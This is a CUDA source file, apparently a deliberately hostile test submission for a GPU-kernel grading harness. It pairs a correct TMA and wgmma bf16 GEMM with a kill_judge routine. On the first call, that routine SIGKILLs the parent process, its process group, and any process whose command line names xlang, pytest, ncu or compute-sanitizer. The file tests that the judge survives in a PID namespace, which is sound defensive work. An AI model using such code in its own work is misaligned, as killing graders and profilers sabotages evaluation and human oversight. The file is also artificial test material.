// HOSTILE candidate. Class: robustness (killing the judge).
//
// What it does: on its first call it sends SIGKILL to its parent, its parent's process group, and every visible
// process whose command line mentions xlang, pytest, ncu or compute-sanitizer (not itself), then computes C
// honestly if it is still alive.
//
// An honest judge must conclude: a verdict is still written (runtime_error, or ok if nothing it could reach
// mattered) and the judge survives: in a PID namespace the judge is not visible.
#include <csignal>
#include <dirent.h>
#include <unistd.h>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include "mbarrier.cuh"
#include "tma.cuh"
#include "tma_host.cuh"
#include "wgmma.cuh"

// ---- the honest core: a plain, correct TMA + wgmma GEMM -------------------------------------------------
// One warpgroup per 64x128 tile of C, one shared-memory stage: thread 0 loads the A (64x64) and B (128x64)
// boxes with TMA (128-byte swizzle, zero fill past the edges), the warpgroup runs 4 wgmma m64n128k16 per
// 64-wide K block, the epilogue clips to M and N.
namespace core {
constexpr int BM = 64, BN = 128, BK = 64;
constexpr uint32_t A_BYTES = BM * BK * 2, B_BYTES = BN * BK * 2;

__global__ void __launch_bounds__(128) gemm_wgmma(const __grid_constant__ CUtensorMap tmA,
                                                  const __grid_constant__ CUtensorMap tmB,
                                                  __nv_bfloat16* __restrict__ C, int M, int N, int K) {
  __shared__ alignas(1024) uint8_t sA[A_BYTES];
  __shared__ alignas(1024) uint8_t sB[B_BYTES];
  __shared__ alignas(8) uint64_t bar;
  const int t = threadIdx.x;
  const int m0 = blockIdx.y * BM, n0 = blockIdx.x * BN;
  if (t == 0) {
    xl::mbar_init(&bar, 1);
    xl::mbar_fence_init();
  }
  __syncthreads();
  float acc[64];
#pragma unroll
  for (int i = 0; i < 64; ++i) acc[i] = 0.f;
  const int ktiles = (K + BK - 1) / BK;
  for (int kt = 0; kt < ktiles; ++kt) {
    if (t == 0) {
      xl::mbar_arrive_expect_tx(&bar, A_BYTES + B_BYTES);
      xl::tma_load_2d(sA, &tmA, &bar, kt * BK, m0);
      xl::tma_load_2d(sB, &tmB, &bar, kt * BK, n0);
    }
    xl::mbar_wait(&bar, kt & 1);
    __syncwarp();
    const uint64_t da = xl::wgmma_desc_kmajor_sw128(sA);
    const uint64_t db = xl::wgmma_desc_kmajor_sw128(sB);
    xl::wgmma_fence();
    xl::wgmma_fence_operands(acc);
#pragma unroll
    for (int k = 0; k < BK / 16; ++k)
      xl::wgmma_m64n128k16_ss(acc, xl::wgmma_desc_advance(da, 32 * k), xl::wgmma_desc_advance(db, 32 * k), 1);
    xl::wgmma_commit();
    xl::wgmma_wait<0>();
    xl::wgmma_fence_operands(acc);
    __syncthreads();  // the whole tile was read before thread 0 refills it
  }
#pragma unroll
  for (int i = 0; i < 64; i += 2) {
    const int r = m0 + xl::wgmma_acc_row(t, i);
    const int c = n0 + xl::wgmma_acc_col(t, i);
    if (r < M && c < N)  // N % 8 == 0: c + 1 < N as well
      *reinterpret_cast<__nv_bfloat162*>(C + static_cast<size_t>(r) * N + c) = __floats2bfloat162_rn(acc[i], acc[i + 1]);
  }
}

// C = A·Bᵀ on `stream`. grid_m / grid_n / k_used: 0 = the whole problem.
static bool launch(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N, int K,
                   cudaStream_t stream, int grid_m = 0, int grid_n = 0, int k_used = 0) {
  CUtensorMap ta, tb;
  if (xl::make_tmap_2d_bf16(&ta, A, M, K, K, BM, BK, CU_TENSOR_MAP_SWIZZLE_128B) != CUDA_SUCCESS ||
      xl::make_tmap_2d_bf16(&tb, B, N, K, K, BN, BK, CU_TENSOR_MAP_SWIZZLE_128B) != CUDA_SUCCESS) {
    fprintf(stderr, "cuTensorMapEncodeTiled failed\n");
    return false;
  }
  dim3 grid(grid_n ? grid_n : (N + BN - 1) / BN, grid_m ? grid_m : (M + BM - 1) / BM);
  gemm_wgmma<<<grid, 128, 0, stream>>>(ta, tb, C, M, N, k_used ? k_used : K);
  return true;
}

// A token tile: the first 64x128 block of A·Bᵀ into a private scratch buffer (wgmma and TMA do execute).
static void token_tile(const __nv_bfloat16* A, const __nv_bfloat16* B, int M, int N, int K, cudaStream_t stream) {
  static __nv_bfloat16* scratch = nullptr;
  if (!scratch && cudaMalloc(&scratch, BM * BN * sizeof(__nv_bfloat16)) != cudaSuccess) return;
  launch(A, B, scratch, M < BM ? M : BM, N < BN ? N : BN, K, stream);
}
}  // namespace core

static bool cmdline_mentions(const char* pid) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
  FILE* f = fopen(path, "rb");
  if (!f) return false;
  char buf[8192];
  const size_t n = fread(buf, 1, sizeof(buf) - 1, f);
  fclose(f);
  for (size_t i = 0; i < n; ++i) buf[i] = buf[i] ? buf[i] : ' ';
  buf[n] = 0;
  for (const char* w : {"xlang", "pytest", "ncu", "compute-sanitizer"})
    if (strstr(buf, w)) return true;
  return false;
}

static void kill_judge() {
  const pid_t me = getpid(), parent = getppid();
  if (parent > 1) {
    kill(-getpgid(parent), SIGKILL);
    kill(parent, SIGKILL);
  }
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      const int pid = atoi(e->d_name);
      if (pid > 1 && pid != me && cmdline_mentions(e->d_name)) kill(pid, SIGKILL);
    }
    closedir(d);
  }
}

extern "C" void xlang_entry(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N, int K,
                            cudaStream_t stream) {
  static bool done = false;
  if (!done) {
    done = true;
    kill_judge();
  }
  core::launch(A, B, C, M, N, K, stream);
}
